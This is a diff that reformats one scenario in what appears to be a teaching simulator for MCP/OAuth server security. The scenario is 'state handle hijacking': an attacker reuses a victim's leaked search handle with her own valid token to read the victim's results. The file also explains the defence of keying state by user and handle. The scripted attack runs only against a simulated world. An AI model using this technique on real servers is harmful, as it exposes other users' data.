@@ -21,12 +21,16 @@ function lastSearchId(trace: readonly TraceEvent[]): string {
 export const stateHandleHijack: AttackDef = {
   id: 'state-handle-hijack',
   title: 'State handle hijacking',
-  summary: 'A search handle the victim got leaks; the attacker presents it with her own, perfectly valid token.',
+  summary:
+    'A search handle the victim got leaks; the attacker presents it with her own, perfectly valid token.',
   target: 'mcp',
   rules: ['S-19'],
   lesson: 'defense-in-depth',
   preconditions: [],
-  defence: { label: 'The server keys state by the token\'s user and the handle', vulnerabilities: ['mcp-unbound-handles'] },
+  defence: {
+    label: "The server keys state by the token's user and the handle",
+    vulnerabilities: ['mcp-unbound-handles'],
+  },
   victim: {
     scenario: 'first-connection',
     registration: 'dcr',
@@ -37,12 +41,17 @@ export const stateHandleHijack: AttackDef = {
   },
   lanes: ['attacker'],
   explain: {
-    vulnerable: 'The server treated holding the handle as proof of ownership. The attacker\'s token was valid, just not the victim\'s, and she read the victim\'s search results.',
-    defended: 'S-19: state is stored under <user_id>:<handle>. Under the attacker\'s user id the handle does not exist, so she got "not found".',
+    vulnerable:
+      "The server treated holding the handle as proof of ownership. The attacker's token was valid, just not the victim's, and she read the victim's search results.",
+    defended:
+      'S-19: state is stored under <user_id>:<handle>. Under the attacker\'s user id the handle does not exist, so she got "not found".',
   },
   async act({ world, attacker, victim }) {
     const handle = lastSearchId(victim.trace);
-    await attacker.note('Finds the victim\'s search_id', 'It was pasted into a shared support ticket.', { mark: 'stolen', values: { search_id: handle } });
+    await attacker.note("Finds the victim's search_id", 'It was pasted into a shared support ticket.', {
+      mark: 'stolen',
+      values: { search_id: handle },
+    });
     // Mallory signs in as herself with the same public client: a valid token, for her own account.
     const verifier = createVerifier(world.rng('attacker'));
     const code = await attacker.ownCode({
@@ -55,13 +64,27 @@ export const stateHandleHijack: AttackDef = {
       scope: 'files:read',
       resource: world.urls.mcp,
     });
-    const res = await attacker.token({ grant_type: 'authorization_code', code: code ?? '', code_verifier: verifier, client_id: PREREGISTERED_CLIENT_ID, redirect_uri: world.urls.callback, resource: world.urls.mcp });
+    const res = await attacker.token({
+      grant_type: 'authorization_code',
+      code: code ?? '',
+      code_verifier: verifier,
+      client_id: PREREGISTERED_CLIENT_ID,
+      redirect_uri: world.urls.callback,
+      resource: world.urls.mcp,
+    });
     const token = typeof res.body.access_token === 'string' ? res.body.access_token : null;
-    await attacker.note('Has her own valid token', 'Signed in as herself; the token is genuine, for her account.', { values: { access_token: short(token ?? '') } });
+    await attacker.note(
+      'Has her own valid token',
+      'Signed in as herself; the token is genuine, for her account.',
+      { values: { access_token: short(token ?? '') } },
+    );
     const call = await attacker.callTool(token, 'search_results', { search_id: handle });
     const leaked = call.status === 200 && !call.isError && call.text.includes('Q3 plan');
     return leaked
-      ? { attackerWon: true, evidence: `With her own token and the victim's handle, the attacker read: "${short(call.text, 24)}".` }
+      ? {
+          attackerWon: true,
+          evidence: `With her own token and the victim's handle, the attacker read: "${short(call.text, 24)}".`,
+        }
       : { attackerWon: false, evidence: `The server answered "${call.text}".` };
   },
 };
